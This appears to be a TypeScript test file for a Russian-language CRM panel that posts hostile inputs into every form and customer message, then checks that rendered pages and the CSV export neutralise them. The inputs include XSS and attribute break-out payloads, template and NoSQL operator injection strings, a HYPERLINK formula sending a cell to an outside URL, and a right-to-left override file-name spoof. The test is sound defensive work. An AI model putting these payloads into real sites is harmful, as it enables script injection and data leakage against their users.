import { beforeAll, describe, expect, it } from 'vitest';
import { findDuplicates } from '../../src/contacts/index.ts';
import { createDeal } from '../../src/deals/index.ts';
import { ensureOwner, staffByEmail } from '../../src/staff/index.ts';
import { useDatabase } from '../support/database.ts';
import { owner, usePanel } from '../support/panel.ts';
import { seedConversation, seedPanel } from '../support/seed-panel.ts';
import { visitor } from '../support/visitor.ts';

/** What somebody might write where a name belongs. */
const hostile = {
  script: '<script>run()</script>"><img src=x onerror=run()>',
  attribute: `' onfocus=run() autofocus x='`,
  template: '{{constructor.constructor("run()")()}}<%= run() %>',
  link: 'javascript:run()',
  formula: '=HYPERLINK("http://example.org/?"&A1,"run")',
  backwards: 'счёт\u202Egpj.exe\u2066',
  nothing: 'до\u0000после\u0007',
  long: 'ю'.repeat(10_000),
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈🇷🇺'.repeat(20),
  zalgo: `З${'\u0300\u0301\u0302\u0303\u0304'.repeat(40)}`,
  operator: '[$ne]=1&$where=run()',
} as const;

describe('what is written to harm', () => {
  useDatabase();
  const panel = usePanel();
  const guest = visitor(() => panel.url);
  let staff = '';
  let anna = '';
  let annaContact = '';
  const deal = 'hostiledeal';

  beforeAll(async () => {
    await ensureOwner(owner, new Date());
    staff = (await staffByEmail(owner.email)) ?? '';
    const now = new Date();
    ({ anna, annaContact } = await seedPanel({ staff, now }));
    await createDeal({ key: deal, contact: annaContact, pipeline: 'sales', stage: 'new', title: 'Ремонт', owner: staff, now });
    await guest.signIn(owner);
  });

  /** Every form of the panel that takes words, with all its words hostile. */
  const forms = (words: string): [path: string, fields: Record<string, string>][] => [
    [
      '/contacts/new',
      { firstName: words, lastName: words, company: words, city: words, phone: words, email: words, birthday: words },
    ],
    ['/contacts/new', { firstName: words, lastName: words, company: words, position: words }],
    ...['name', 'firstName', 'company', 'address', 'requisites', 'birthday', 'timeZone'].map(
      field => [`/contacts/${annaContact}/fields/${field}`, { value: words }] satisfies [string, Record<string, string>],
    ),
    [`/contacts/${annaContact}/lists/phones`, { add: words }],
    [`/contacts/${annaContact}/lists/emails`, { add: words }],
    [`/contacts/${annaContact}/tags`, { add: words, tag: words }],
    ['/contacts/bulk', { what: 'tag', tag: words, id: annaContact, ids: annaContact }],
    ['/settings/fields', { title: words, type: 'list', group: words, choices: words }],
    ['/settings/grading/temperature', { to: words, kind: words, value: words }],
    ['/deals', { title: words, contact: annaContact, amount: words, pipeline: 'sales' }],
    ['/deals', { title: words, contact: annaContact, pipeline: 'sales' }],
    [`/deals/${deal}/fields/title`, { value: words }],
    [`/deals/${deal}/fields/tags`, { value: words }],
    [`/deals/${deal}/own`, { name: words, value: words }],
    [`/deals/${deal}/own`, { name: 'Своё', value: words }],
    [`/deals/${deal}/lines`, { name: words, price: '10', quantity: '1', discount: '0', was: '[]' }],
    [`/deals/${deal}/notes`, { text: words }],
    [`/deals/${deal}/tasks`, { title: words, due: words, key: 'hostiletask1' }],
    ['/tasks', { title: words, due: 'завтра 10', contact: annaContact, for: 'me' }],
    ['/tasks', { title: words, due: words, for: words }],
    ['/settings/pipelines', { name: words, currency: 'RUB' }],
    ['/settings/products', { name: words, price: '100' }],
    ['/settings/queues', { title: words, id: 'hostile', handsOut: 'byHand', hours: 'firm', ru: words }],
    ['/settings/hours', { holidays: words, timeZone: words, promiseMinutes: words }],
    [
      '/settings/replies/new',
      { name: words, ru: words, en: words, shared: 'yes', whose: 'all', buttonLabel: words, buttonUrl: words },
    ],
    ['/settings/roles', { name: words, rights: 'write' }],
    ['/settings/staff', { email: words, role: 'manager' }],
    ['/settings', { name: words, theme: 'auto', language: 'ru' }],
    [`/inbox/${anna}/notes`, { text: words, key: 'hostilenote1' }],
    [`/inbox/${anna}/close`, { reason: words }],
  ];

  const pages = () => [
    '/inbox?view=all',
    `/inbox/${anna}`,
    '/contacts',
    `/contacts/${annaContact}`,
    ...['changes', 'deals', 'tasks', 'messages'].map(kind => `/contacts/${annaContact}/timeline?kind=${kind}`),
    '/contacts/duplicates',
    '/contacts/trash',
    '/deals',
    '/deals?view=list',
    `/deals/${deal}`,
    '/tasks',
    '/tasks?view=week',
    '/tasks/feed',
    ...['', '/fields', '/grading', '/pipelines', '/products', '/queues', '/hours', '/replies', '/roles', '/staff', '/audit'].map(
      page => `/settings${page}`,
    ),
  ];

  /** Nothing of it stands on the page as markup, in an attribute's place, or unseen. */
  function expectHarmless(html: string, where: string) {
    expect(html, where).not.toContain('<script>run');
    expect(html, where).not.toMatch(/<img[^>]*onerror/);
    expect(html, where).not.toMatch(/<[^>]*\sonfocus=run/);
    expect(html, where).not.toMatch(/href=["']javascript:/i);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there.
    expect(html, where).not.toMatch(/[\u0000\u0007\u202a-\u202e\u2066-\u2069]/);
  }

  it.each(Object.entries(hostile))('is shown or refused, never run: %s', { timeout: 60_000 }, async (_kind, words) => {
    await guest.get('/settings');
    for (const [path, fields] of forms(words)) {
      const { status, page } = await guest.post(path, fields, path.startsWith('/settings') ? {} : { 'hx-request': 'true' });
      expect(status, `${path} ${page.slice(0, 300)}`).toBeLessThan(500);
      expect(status, path).not.toBe(404);
      expectHarmless(page, path);
    }
    const answers = await Promise.all(pages().map(async path => ({ path, ...(await pageOf(path)) })));
    for (const { path, status, page } of answers) {
      expect(status, path).toBe(200);
      expectHarmless(page, path);
    }
    for (const path of [
      `/contacts?q=${encodeURIComponent(words.slice(0, 300))}`,
      `/deals?text=${encodeURIComponent(words.slice(0, 300))}`,
    ]) {
      const { status, page } = await pageOf(path);
      expect(status, path).toBeLessThan(500);
      expectHarmless(page, path);
    }
    const table = await guest.get('/deals/export?pipeline=sales');
    expect(table.page, 'a cell begins with no formula').not.toMatch(/(^|[;,\n\t"])=HYPERLINK/);
  });

  it.each(Object.entries(hostile))('is harmless in a customer’s own name and words as well: %s', async (kind, words) => {
    const now = new Date();
    const short = words.slice(0, 4000);
    const { contact, conversation } = await seedConversation(
      {
        address: { messenger: 'telegram', account: '1', chat: `9${Object.keys(hostile).indexOf(kind)}` },
        person: { id: kind, firstName: short, lastName: short, username: short },
        link: short,
        mode: 'queue',
        queue: short.slice(0, 40),
        waits: 5,
        card: { set: { name: short, city: short }, custom: { [`Поле ${kind}`]: short }, addTags: [short.slice(0, 60)] },
        lines: [
          { from: 'customer', ago: 6, text: words },
          { from: 'staff', ago: 5, text: words, delivery: { state: 'failed', attempts: 1, reason: words.slice(0, 60) } },
          { from: 'event', ago: 4, event: { what: 'note', values: { text: words } } },
        ],
      },
      now,
    );
    await findDuplicates();
    for (const path of [
      `/inbox/${encodeURIComponent(conversation)}`,
      `/contacts/${contact}`,
      '/inbox?view=waiting',
      '/contacts',
      '/contacts/duplicates',
    ]) {
      const { status, page } = await pageOf(path);
      expect(status, path).toBe(200);
      expectHarmless(page, path);
    }
  });

  const pageOf = async (path: string) => {
    const { status, page } = await guest.get(path);
    return { status, page };
  };
});
